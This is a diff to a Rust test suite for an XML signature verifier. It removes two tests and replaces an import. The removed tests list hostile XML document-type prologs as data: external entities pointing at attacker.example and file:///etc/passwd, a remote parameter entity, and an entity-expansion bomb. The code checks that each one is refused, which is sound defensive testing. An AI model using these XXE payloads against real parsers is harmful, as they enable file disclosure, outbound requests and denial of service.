@@ -4,77 +4,7 @@ use canonical_xml::NoBlob;
 use xml_signature::{ENVELOPED_SIGNATURE, verify};
 
 use crate::scene::{Sent, replaced};
-use crate::support::{EXCLUSIVE, Key, Template, code, document, requiring, sign};
-
-fn with_prolog(sent: &Sent, prolog: &str) -> String {
-    format!("{prolog}{}", sent.text)
-}
-
-#[test]
-fn a_document_type_is_refused_whatever_it_declares() {
-    let sent = Sent::order();
-    for prolog in [
-        "<!DOCTYPE Order>",
-        "<!DOCTYPE Order SYSTEM \"http://attacker.example/o.dtd\">",
-        "<!DOCTYPE Order SYSTEM \"file:///etc/passwd\">",
-        "<!DOCTYPE Order PUBLIC \"-//X//X\" \"http://attacker.example/o.dtd\">",
-        "<!DOCTYPE Order []>",
-        "<!DOCTYPE Order [<!ENTITY a \"b\">]>",
-        "<!DOCTYPE Order [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
-        "<!DOCTYPE Order [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>",
-        "<!DOCTYPE Order [<!ATTLIST Note Id ID #FIXED \"note\">]>",
-        "<!DOCTYPE Order [<!ATTLIST Order xmlns CDATA #FIXED \"urn:o\">]>",
-        "<!DOCTYPE Order [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\
-         <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
-        "\n<!-- --> <!DOCTYPE Order>",
-        "<?xml version=\"1.0\" standalone=\"no\"?><!DOCTYPE Order>",
-    ] {
-        let text = with_prolog(&sent, prolog);
-        assert_eq!(sent.code(&text), "xml.document-type", "{prolog}");
-    }
-    for (from, to) in [
-        ("</Order>", "</Order><!DOCTYPE Order>"),
-        ("<Note>", "<!DOCTYPE Order><Note>"),
-    ] {
-        assert_eq!(sent.code_with(from, to), "xml.document-type");
-    }
-    // In other letters it is no markup at all.
-    let text = with_prolog(&sent, "<!doctype Order>");
-    assert!(sent.code(&text).starts_with("xml."), "{}", sent.code(&text));
-}
-
-#[test]
-fn an_entity_that_nobody_declared_is_refused() {
-    let sent = Sent::order();
-    for entity in [
-        "&a;",
-        "&nbsp;",
-        "&LT;",
-        "&#x0;",
-        "&#0;",
-        "&#xD800;",
-        "&#xFFFE;",
-        "&#x110000;",
-    ] {
-        let code = sent.code_with("two pieces", &format!("two{entity}pieces"));
-        let expected = if entity.starts_with("&#") {
-            "xml.illegal-character"
-        } else {
-            "xml.entity"
-        };
-        assert_eq!(code, expected, "{entity}");
-        let code = sent.code_with("<Note>", &format!("<Note a=\"{entity}\">"));
-        assert_eq!(code, expected, "{entity}");
-    }
-    assert_eq!(
-        sent.code_with("two pieces", "two & pieces"),
-        "xml.malformed"
-    );
-    assert_eq!(
-        sent.code_with("two pieces", "two %p; pieces"),
-        "signature.digest-mismatch"
-    );
-}
+use xml_testkit::{EXCLUSIVE, Key, Template, code, document, requiring, sign};
 
 #[test]
 fn a_reference_out_of_the_document_is_refused_even_if_well_signed() {
